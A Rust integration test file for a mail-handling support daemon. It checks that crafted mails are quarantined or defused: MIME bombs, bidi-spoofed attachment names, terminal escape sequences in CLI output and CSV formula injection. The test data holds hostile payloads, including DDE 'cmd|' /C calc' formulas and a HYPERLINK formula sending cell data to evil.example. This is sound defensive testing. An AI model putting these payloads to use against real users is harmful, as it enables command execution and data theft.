//! Hostile input through the mail channel (the issue "[hardening] The mail
//! channel under attack"): every mail here is built as raw .eml bytes and
//! goes through the real pipeline (`Env`, the same `process` as the daemon)
//! or the real `supportd` binary.
//!
//! 1. MIME part and depth limits that headerless parts or an odd header
//!    spelling used to slip past;
//! 2. bidi / zero-width characters in attachment names;
//! 3. terminal control and bidi characters in the CLI's text output;
//! 4. CSV formula injection in the report CSV.

mod common;

use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::time::{Duration, Instant};

use common::{Env, mail};
use supportd::reports::{self, Period};

const KUNDE: &str = "Max Keller <m.keller@stadtwerke-musterstadt.de>";
const ANNA: &str = "Anna Berg <anna@roewaplan.de>";

/// The characters that reorder or hide text (bidi embeddings, overrides and
/// isolates, marks, zero-width characters, the BOM, the line separator).
const BIDI: [char; 17] = [
    '\u{202A}', '\u{202B}', '\u{202C}', '\u{202D}', '\u{202E}', '\u{2066}', '\u{2067}', '\u{2068}', '\u{2069}',
    '\u{200E}', '\u{200F}', '\u{061C}', '\u{200B}', '\u{200C}', '\u{200D}', '\u{FEFF}', '\u{2028}',
];

fn raw_kept(env: &Env, row: i64) -> usize {
    env.store.conn().query_row("SELECT raw_size FROM messages WHERE id = ?1", [row], |r| r.get::<_, i64>(0)).unwrap()
        as usize
}

// ---------------------------------------------------------------------------
// 1. MIME parts and depth

/// A multipart/mixed mail whose `n` parts have no headers at all (a part
/// without Content-Type is text/plain by RFC 2045).
fn headerless_parts(n: usize) -> String {
    let mut raw = String::from(
        "From: a@example.org\r\nSubject: parts\r\nMessage-ID: <headerless@x>\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n",
    );
    for _ in 0..n {
        raw.push_str("--b\r\n\r\nx\r\n");
    }
    raw.push_str("--b--\r\n");
    raw
}

/// Proves: 20,000 MIME parts without a Content-Type header are counted and
/// the mail is quarantined for `max_mime_parts = 500` (the default), within
/// a second, raw bytes kept. Before the fix only Content-Type headers were
/// counted: 1 "part", and the parser built all 20,000.
#[test]
fn twenty_thousand_parts_without_content_type_are_quarantined() {
    let mut env = Env::new();
    let raw = headerless_parts(20_000);
    let t = Instant::now();
    let o = env.ingest(raw.as_bytes());
    let took = t.elapsed();
    eprintln!("20,000 headerless parts ({} bytes): {:?} in {took:?}", raw.len(), o.disposition);
    assert_eq!(o.disposition.as_str(), "quarantined", "{:?}", o.reason);
    assert!(o.reason.as_deref().unwrap_or("").contains("max_mime_parts"), "{:?}", o.reason);
    assert_eq!(raw_kept(&env, o.row), raw.len(), "raw bytes kept");
    assert!(took < Duration::from_secs(2), "took {took:?}");
}

/// Proves: a Content-Type header spelled `Content-Type :` (mail-parser takes
/// it; the old counter looked for `content-type:`) is counted like any
/// other: 10,000 such parts are quarantined for `max_mime_parts`.
#[test]
fn a_content_type_with_a_space_before_the_colon_is_counted() {
    let mut env = Env::new();
    let mut raw = String::from(
        "From: a@example.org\r\nSubject: parts\r\nMessage-ID: <spaced@x>\r\nContent-Type : multipart/mixed; boundary=\"b\"\r\n\r\n",
    );
    for _ in 0..10_000 {
        raw.push_str("--b\r\nContent-Type : text/plain\r\n\r\nx\r\n");
    }
    raw.push_str("--b--\r\n");
    let o = env.ingest(raw.as_bytes());
    assert_eq!(o.disposition.as_str(), "quarantined", "{:?}", o.reason);
    assert!(o.reason.as_deref().unwrap_or("").contains("max_mime_parts"), "{:?}", o.reason);
}

/// Proves: delimiters in the middle of a line (mail-parser starts a part at
/// any `--boundary`, not only at the start of a line) and a boundary given
/// as RFC 2231 continuations (`boundary*0`, `boundary*1`) are counted too.
#[test]
fn mid_line_delimiters_and_continued_boundaries_are_counted() {
    let mut env = Env::new();
    let mut raw = String::from(
        "From: a@example.org\r\nSubject: parts\r\nMessage-ID: <midline@x>\r\nContent-Type: multipart/mixed;\r\n boundary*0=\"ab\"; boundary*1=\"cd\"\r\n\r\n",
    );
    for _ in 0..5_000 {
        raw.push_str("x --abcd\r\n\r\ny");
    }
    raw.push_str("\r\n--abcd--\r\n");
    let o = env.ingest(raw.as_bytes());
    assert_eq!(o.disposition.as_str(), "quarantined", "{:?}", o.reason);
    assert!(o.reason.as_deref().unwrap_or("").contains("max_mime_parts"), "{:?}", o.reason);
}

/// `levels` message/rfc822 parts nested in each other, with no boundary at
/// all and `Content-Type :` spelled with a space.
fn nested_messages(levels: usize) -> String {
    let mut raw = String::from("From: a@example.org\r\nSubject: nested\r\nMessage-ID: <nested@x>\r\n");
    for _ in 0..levels {
        raw.push_str("Content-Type : message/rfc822\r\n\r\nFrom: b@example.org\r\n");
    }
    raw.push_str("\r\nx\r\n");
    raw
}

/// Proves: the depth limit holds for nesting that needs neither boundaries
/// nor a `content-type:` the old counter saw: 100 message/rfc822 levels
/// (fewer than 500 parts) are quarantined for `max_mime_depth = 20`, and
/// 200,000 levels (6 MB) are refused before the parser builds (and drops,
/// recursively) a 200,000-deep tree, in bounded time.
#[test]
fn nesting_without_boundaries_hits_the_depth_or_part_limit() {
    let mut env = Env::new();
    let o = env.ingest(nested_messages(100).as_bytes());
    assert_eq!(o.disposition.as_str(), "quarantined", "{:?}", o.reason);
    assert!(o.reason.as_deref().unwrap_or("").contains("max_mime_depth"), "{:?}", o.reason);

    let raw = nested_messages(200_000);
    let t = Instant::now();
    let o = env.ingest(raw.as_bytes());
    let took = t.elapsed();
    eprintln!("200,000 nested messages ({} bytes): {:?} in {took:?}", raw.len(), o.reason);
    assert_eq!(o.disposition.as_str(), "quarantined", "{:?}", o.reason);
    assert!(o.reason.as_deref().unwrap_or("").contains("max_mime_parts"), "{:?}", o.reason);
    assert!(took < Duration::from_secs(3), "took {took:?}");

    // With the part limit at its maximum, 40,000 levels pass the count and
    // reach the parser: the depth limit refuses them, and the 40,000-deep
    // tree is dropped without recursion (the recursive drop overflowed the
    // prepare thread's stack and aborted the process).
    let mut env = Env::with_config("[limits]\nmax_mime_parts = 100000\n");
    let raw = nested_messages(40_000);
    let t = Instant::now();
    let o = env.ingest(raw.as_bytes());
    let took = t.elapsed();
    eprintln!("40,000 nested messages, max_mime_parts = 100000: {:?} in {took:?}", o.reason);
    assert_eq!(o.disposition.as_str(), "quarantined", "{:?}", o.reason);
    assert!(o.reason.as_deref().unwrap_or("").contains("max_mime_depth"), "{:?}", o.reason);
    assert!(took < Duration::from_secs(5), "took {took:?}");
}

/// Proves: counting is linear, also in its worst case: a body of dashes
/// under 400 declared boundaries of 67 dashes and 3 digits each (every
/// position of the body starts a candidate delimiter for all 400: a naive
/// count does bytes x 400 x 67 comparisons). `count_mime_parts` on 4 MB
/// takes well under a second (debug build), and 16 MB less than eight
/// times as long (linear: four times; quadratic: sixteen).
#[test]
fn counting_parts_is_linear_in_the_worst_case() {
    let build = |mb: usize| {
        let mut raw = String::from("From: a@example.org\r\nSubject: dashes\r\n");
        for i in 0..400 {
            raw.push_str(&format!("X-B{i}: boundary=\"{}{i:03}\"\r\n", "-".repeat(67)));
        }
        raw.push_str("\r\n");
        let line = format!("{}\r\n", "-".repeat(1022));
        while raw.len() < mb << 20 {
            raw.push_str(&line);
        }
        raw
    };
    let mut times = Vec::new();
    for mb in [4, 16] {
        let raw = build(mb);
        // The best of three: other tests share the machine.
        let took = (0..3)
            .map(|_| {
                let t = Instant::now();
                let parts = supportd::parse::count_mime_parts(raw.as_bytes(), 500);
                assert_eq!(parts, 400, "the 400 boundary declarations; no delimiter in the dashes");
                t.elapsed()
            })
            .min()
            .unwrap();
        eprintln!("{mb} MB of dashes under 400 dash boundaries: counted in {took:?}");
        times.push(took);
    }
    assert!(times[0] < Duration::from_secs(1), "4 MB took {:?}", times[0]);
    assert!(times[1] < times[0] * 8, "16 MB took {:?}, 4 MB {:?}: not linear", times[1], times[0]);
}

// ---------------------------------------------------------------------------
// 2. Attachment names

/// RFC 2231 percent-encoding of a UTF-8 string.
fn pct(s: &str) -> String {
    s.bytes()
        .map(|b| if b.is_ascii_alphanumeric() || b == b'.' { (b as char).to_string() } else { format!("%{b:02X}") })
        .collect()
}

/// Proves: bidi overrides, embeddings, isolates, marks, zero-width
/// characters and the BOM are removed from stored attachment names
/// (`rechnung\u{202E}fdp.exe` is stored as `rechnungfdp.exe`, which shows
/// what it is: an .exe), one attachment per character, while the other
/// rules of the name sanitiser still hold (no path, no leading dot).
#[test]
fn bidi_and_zero_width_characters_are_stripped_from_attachment_names() {
    let mut env = Env::new();
    let mut names: Vec<String> = vec!["rechnung\u{202E}fdp.exe".into(), "../\u{202E}.\u{200B}bashrc".into()];
    names.extend(BIDI.iter().map(|c| format!("datei{c}.txt")));
    let mut raw = format!(
        "From: {KUNDE}\r\nTo: mein-team-support@roewaplan.de\r\nSubject: Rechnung\r\nMessage-ID: <bidi@sw>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"X\"\r\n\r\n--X\r\nContent-Type: text/plain\r\n\r\nSiehe Anhang.\r\n"
    );
    for n in &names {
        raw.push_str(&format!(
            "--X\r\nContent-Type: application/octet-stream\r\nContent-Disposition: attachment; filename*=utf-8''{}\r\nContent-Transfer-Encoding: base64\r\n\r\nSGFsbG8gV2VsdA==\r\n",
            pct(n)
        ));
    }
    raw.push_str("--X--\r\n");
    let o = env.ingest(raw.as_bytes());
    assert_eq!(o.disposition.as_str(), "new_ticket", "{:?}", o.reason);
    let stored: Vec<String> = {
        let mut st = env.store.conn().prepare("SELECT filename FROM attachments ORDER BY id").unwrap();
        st.query_map([], |r| r.get(0)).unwrap().map(|r| r.unwrap()).collect()
    };
    assert_eq!(stored.len(), names.len(), "{stored:?}");
    assert_eq!(stored[0], "rechnungfdp.exe");
    assert_eq!(stored[1], "bashrc");
    for s in &stored[2..] {
        assert_eq!(s, "datei.txt", "{:?}", s.chars().map(|c| format!("U+{:04X}", c as u32)).collect::<Vec<_>>());
    }
}

// ---------------------------------------------------------------------------
// 3. The CLI's text output

fn supportd(config: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_supportd")).arg("--config").arg(config).args(args).output().unwrap()
}

/// A copy of the default config in a temp dir (its var/ goes there too).
fn temp_config() -> (tempfile::TempDir, PathBuf) {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join("config")).unwrap();
    let cfg = dir.path().join("config/supportd.toml");
    std::fs::write(&cfg, common::config_text("")).unwrap();
    (dir, cfg)
}

/// Characters that must never reach a terminal from text output: C0 other
/// than the line feed ending each line, DEL, C1, and the bidi/format set.
fn unsafe_chars(s: &str) -> Vec<String> {
    s.chars()
        .filter(|&c| (c.is_control() && c != '\n') || BIDI.contains(&c) || c == '\u{2029}')
        .map(|c| format!("U+{:04X}", c as u32))
        .collect()
}

/// Proves: mail-derived strings with terminal escapes (ESC sequences that
/// clear the screen or set the window title, BEL, DEL, C1 CSI) and bidi
/// overrides are escaped in the text output of `messages list/show`,
/// `tickets list/show` (subject, requester, events, note text), `outbox
/// list` and `quarantine list`: no such character reaches stdout; the
/// escape is visible (`\x1b`, `\u{202e}`). The `--json` output stays valid
/// JSON, carries the stored values unchanged, and prints no raw C1 or bidi
/// character either (they are `\u` escapes inside the JSON strings).
#[test]
fn control_and_bidi_characters_from_mail_are_escaped_in_cli_output() {
    let (dir, cfg) = temp_config();
    let mails = dir.path().join("mails");
    std::fs::create_dir_all(&mails).unwrap();
    let evil = "\u{1b}]0;pwned\u{7}\u{1b}[2J\u{7f}\u{9b}31m \u{202E}gepj.exe";
    // 1: a new ticket: subject and display name with a bidi override (and
    // the escapes, which the subject's one-line rule drops anyway).
    let subject = format!("=?utf-8?B?{}?=", common::b64(format!("Rechnung {evil}").as_bytes()));
    let name = format!("=?utf-8?B?{}?=", common::b64("Max \u{202E}relleK".as_bytes()));
    let m1 = mail(&format!("{name} <m.keller@stadtwerke-musterstadt.de>"), &subject, "c1@sw", "", "Bitte prüfen.");
    // 2: an auto-reply whose header value (raw bytes) carries the escapes: the
    // hygiene reason and the trail quote it.
    let m2 = mail(KUNDE, "Abwesend", "c2@sw", &format!("X-Autoreply: yes {evil}"), "Bin weg.");
    // 3: an agent's internal note with the escapes in its text.
    let m3 = mail(ANNA, "Re: [MT-000001] Rechnung", "a1@rp", "", &format!("#intern\nnotiz {evil}\nzweite Zeile"));
    for (i, m) in [m1, m2, m3].iter().enumerate() {
        std::fs::write(mails.join(format!("{i}.eml")), m).unwrap();
    }
    let o = supportd(&cfg, &["ingest", "--no-send", mails.to_str().unwrap()]);
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));

    let text_commands: [&[&str]; 8] = [
        &["messages", "list"],
        &["messages", "show", "1"],
        &["messages", "show", "2"],
        &["messages", "show", "3"],
        &["tickets", "list"],
        &["tickets", "show", "MT-000001"],
        &["outbox", "list"],
        &["quarantine", "list"],
    ];
    let mut all = String::new();
    for args in text_commands {
        let o = supportd(&cfg, args);
        assert!(o.status.success(), "{args:?}: {}", String::from_utf8_lossy(&o.stderr));
        let out = String::from_utf8(o.stdout).unwrap();
        let bad = unsafe_chars(&out);
        assert!(bad.is_empty(), "{args:?} printed {bad:?}:\n{}", out.escape_debug());
        all.push_str(&out);
    }
    // The hostile text is shown, escaped, not dropped.
    assert!(all.contains(r"\x1b]0;pwned\x07\x1b[2J\x7f\x9b31m"), "{all}");
    assert!(all.contains(r"\u{202e}gepj.exe"), "{all}");
    assert!(all.contains(r"Max \u{202e}relleK") || all.contains(r"\u{202e}"), "{all}");

    let json_commands: [&[&str]; 4] = [
        &["messages", "list", "--json"],
        &["messages", "show", "2", "--json"],
        &["tickets", "list", "--json"],
        &["tickets", "show", "MT-000001", "--json"],
    ];
    let mut values = Vec::new();
    for args in json_commands {
        let o = supportd(&cfg, args);
        assert!(o.status.success(), "{args:?}");
        let out = String::from_utf8(o.stdout).unwrap();
        let bad = unsafe_chars(&out);
        assert!(bad.is_empty(), "{args:?} printed {bad:?}:\n{}", out.escape_debug());
        for line in out.lines() {
            values.push(serde_json::from_str::<serde_json::Value>(line).expect("valid JSON"));
        }
    }
    // The values are the stored ones, escapes and all.
    assert!(values.iter().any(|v| v["subject"].as_str().is_some_and(|s| s.ends_with(" \u{202E}gepj.exe"))));
    assert!(values.iter().any(|v| v["reason"].as_str().is_some_and(|s| s.contains(evil))), "{values:?}");
}

// ---------------------------------------------------------------------------
// 4. CSV formula injection

/// The cells of an RFC 4180 CSV text (quoted cells, doubled quotes, CRLF).
fn csv_cells(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let mut row = Vec::new();
    let mut cell = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\r') if chars.peek() == Some(&'\n') => {}
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    rows
}

/// Proves: ticket subjects that a spreadsheet would run as a formula
/// (`=`, `+`, `-`, `@` first) reach the report CSV as text: the cell is
/// quoted and starts with `'`, the rest unchanged; an ordinary subject and
/// our own numeric columns (level, support minutes, escalations) are left
/// as they were.
#[test]
fn formula_subjects_are_defused_in_the_report_csv() {
    let mut env = Env::new();
    let at = common::tuesday_morning();
    let subjects = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Details\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "Normale Frage, mit Komma",
    ];
    for (i, s) in subjects.iter().enumerate() {
        let o = env.ingest_at(&mail(KUNDE, s, &format!("f{i}@sw"), "", "Bitte prüfen."), at);
        assert_eq!(o.disposition.as_str(), "new_ticket", "{s}");
    }
    let c = env.p.cfg.customer_by_name("Stadtwerke Musterstadt").unwrap();
    let end = chrono::TimeZone::with_ymd_and_hms(&chrono::Utc, 2026, 12, 1, 7, 0, 0).unwrap();
    let r = reports::compute(&env.p, env.store.conn(), c, &Period::parse("2026-11").unwrap(), end).unwrap();
    let csv = reports::to_csv(&r);
    let rows = csv_cells(&csv);
    assert_eq!(rows[0][1], "subject");
    let body = &rows[1..];
    assert_eq!(body.len(), subjects.len(), "{csv}");
    for s in &subjects {
        let row = body.iter().find(|r| r[1].ends_with(s)).unwrap_or_else(|| panic!("{s} not in\n{csv}"));
        if s.starts_with(['=', '+', '-', '@']) {
            assert_eq!(row[1], format!("'{s}"), "{csv}");
            assert!(csv.contains(&format!("\"'{}\"", s.replace('"', "\"\""))), "cell quoted:\n{csv}");
        } else {
            assert_eq!(row[1], *s);
        }
        // Our numbers stay numbers: level, minutes (empty or digits), escalations.
        assert!(row[3].parse::<u8>().is_ok(), "{row:?}");
        assert!(row[10].chars().all(|c| c.is_ascii_digit()), "{row:?}");
        assert_eq!(row[12], "0", "{row:?}");
        // No cell of the CSV starts a formula.
        for cell in row {
            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?} in {row:?}");
        }
    }
}
